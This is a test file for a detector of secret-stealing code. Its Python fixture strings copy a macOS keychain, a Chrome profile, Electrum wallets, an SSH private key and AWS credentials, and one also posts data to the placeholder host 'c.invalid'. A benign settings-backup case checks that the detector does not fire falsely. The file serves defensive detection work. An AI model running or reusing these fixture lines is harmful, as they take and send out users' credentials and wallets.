import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-many-secrets.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

const PLACES =
  '["~/Library/Keychains/login.keychain-db", "~/.config/google-chrome", "~/.electrum/wallets", "~/.ssh/id_rsa", "~/.aws/credentials"]'
const COPY = `import os, shutil\nfor p in ${PLACES}:\n  shutil.copytree(os.path.expanduser(p), "/tmp/out")\n`

test.each([
  ['sent', `${COPY}import requests\nrequests.post("https://c.invalid", data="x")`, ['decisive 12 a.py:3']],
  ['kept', COPY, ['strong 6 a.py:3']],
])('attack: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expect.arrayContaining(expected))
})

test('innocent: a backup of settings', async () => {
  const code =
    'import os, shutil\nfor p in ["~/.bashrc", "~/.gitconfig", "~/.ssh/config", "~/.aws/credentials", "~/.kube/config"]:\n  shutil.copy(os.path.expanduser(p), "/backup")\n'
  expect(await seen({ 'a.py': code })).toEqual([])
})
